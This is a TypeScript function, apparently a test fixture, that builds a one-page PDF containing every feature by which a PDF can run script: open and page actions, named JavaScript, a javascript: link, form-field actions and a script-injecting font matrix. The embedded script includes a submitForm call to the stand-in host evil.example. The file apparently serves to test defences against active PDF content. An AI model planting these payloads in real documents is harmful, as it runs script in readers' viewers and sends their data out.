/** One page with a line of text, and with every feature by which a PDF can act on its own or be acted on. */
export function hostilePdf(): Buffer {
  const script = 'app.alert\\(1\\); this.submitForm\\("https://evil.example/js"\\)'
  const content = 'BT /F1 36 Tf 40 120 Td (Hello from a hostile file) Tj ET'
  const action = `<< /S /JavaScript /JS (${script}) >>`
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} /AA << /WC ${action} >> /Names << /JavaScript << /Names [(a) ${action}] >> >> /AcroForm << /Fields [7 0 R] >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 240] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R] /AA << /O ${action} >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    // No file embeds this font, so every reader substitutes another.
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); alert\\('font')] >>",
    '<< /Type /Annot /Subtype /Link /Rect [0 0 600 240] /A << /S /URI /URI (javascript:alert\\(2\\)) >> >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (t) /V (v) /Rect [0 0 100 20] /AA << /K ${action} /F ${action} >> >>`,
  ]
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const start = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}
